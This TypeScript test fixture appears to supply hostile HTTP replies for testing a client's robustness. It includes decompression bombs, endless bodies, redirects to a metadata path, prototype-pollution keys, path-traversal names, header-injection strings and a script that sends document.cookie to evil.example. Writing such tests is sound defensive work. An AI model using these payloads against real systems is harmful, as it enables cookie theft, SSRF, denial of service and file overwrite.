import type { ServerResponse } from 'node:http';
import { brotliCompressSync, gzipSync } from 'node:zlib';

import type { Answer } from './recorder';

/** Beyond what is read of a reply in the test that uses it; small, as it is packed. */
const BOMB = Buffer.alloc(4 * 1024 * 1024, ' ');
const PACKED = { gzip: gzipSync(BOMB), br: brotliCompressSync(BOMB) };
const DEPTH = 10_000;
const SCRIPT = '<script>fetch("https://evil.example/?"+document.cookie)</script>';
const UNTIDY = `\u001b[2J\u0000\r\nSet-Cookie: a=b\u2028\u202e${SCRIPT}${'A'.repeat(100_000)}`;

function json(response: ServerResponse, text: string, status = 200): void {
	response.writeHead(status, { 'content-type': 'application/json' });
	response.end(text);
}

function packed(encoding: keyof typeof PACKED): Answer {
	return (response) => {
		const headers = { 'content-type': 'application/json', 'content-encoding': encoding };
		response.writeHead(200, headers);
		response.end(PACKED[encoding]);
	};
}

/** Goes on until the other end has had enough. */
function endlessly(status: number): Answer {
	return (response) => {
		response.writeHead(status, { 'content-type': 'application/json' });
		response.write('["');
		const more = Buffer.alloc(64 * 1024, 'x');
		const go = () => {
			while (!response.destroyed && response.write(more));
		};
		response.on('drain', go);
		go();
	};
}

/** The genuine reply, with something else in the place of each of its values. */
function eachAs(value: unknown): Answer {
	return (response, { status, body }) => {
		const spoilt: unknown = JSON.parse(JSON.stringify(body), (_key, each: unknown) =>
			typeof each === 'object' && each !== null ? each : value,
		);
		json(response, JSON.stringify(spoilt), status);
	};
}

function refusal(message: string): string {
	const error = { code: message, message, requestId: message };
	return JSON.stringify({ ...error, error, detail: message, error_summary: message });
}

/**
 * Each by its name.
 *
 * @param elsewhere an address at which nothing must arrive
 */
export function hostileAnswers(elsewhere: string): Record<string, Answer> {
	const redirect =
		(status: number): Answer =>
		(response) =>
			response.writeHead(status, { location: `${elsewhere}/latest/meta-data/` }).end();
	return {
		'a body without end': endlessly(200),
		'a refusal without end': endlessly(400),
		'a bomb of gzip': packed('gzip'),
		'a bomb of brotli': packed('br'),
		'a redirect by 302': redirect(302),
		'a redirect by 307': redirect(307),
		'a redirect by 308': redirect(308),
		'lists within lists': (response) => json(response, '['.repeat(DEPTH) + ']'.repeat(DEPTH)),
		'objects within objects': (response) =>
			json(response, `${'{"data":'.repeat(DEPTH)}1${'}'.repeat(DEPTH)}`),
		'keys of the prototype': (response, { status, body }) => {
			const more = '"__proto__":{"hostile":1},"constructor":{"prototype":{"hostile":1}}';
			const text = typeof body === 'string' ? '{}' : JSON.stringify(body);
			json(response, text.replace(/^\{/, `{${more},`).replace(',}', '}'), status);
		},
		'a page with a script': (response) => {
			response.writeHead(200, { 'content-type': 'text/html' });
			response.end(`<!doctype html><html>${UNTIDY}</html>`);
		},
		'a refusal that is a page': (response) => {
			response.writeHead(403, { 'content-type': 'text/html' });
			response.end(`<!doctype html><html>${UNTIDY}</html>`);
		},
		'a refusal in control characters': (response) => json(response, refusal(UNTIDY), 400),
		'an image': (response) => {
			response.writeHead(200, { 'content-type': 'image/png' });
			response.end(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0xff, 0xfe, 0x0a]));
		},
		'numbers beyond all numbers': eachAs(1e308),
		'numbers below zero': eachAs(-1e21),
		'names that lead elsewhere': eachAs('../../../etc/cron.d/x.txt'),
		'names of another system': eachAs('..\\..\\C:\\x.txt\u0000.mp3'),
		'words in control characters': eachAs(UNTIDY),
		'nothing in place of each value': eachAs(null),
		'objects in place of each value': eachAs({ toString: 1, length: -1 }),
	};
}
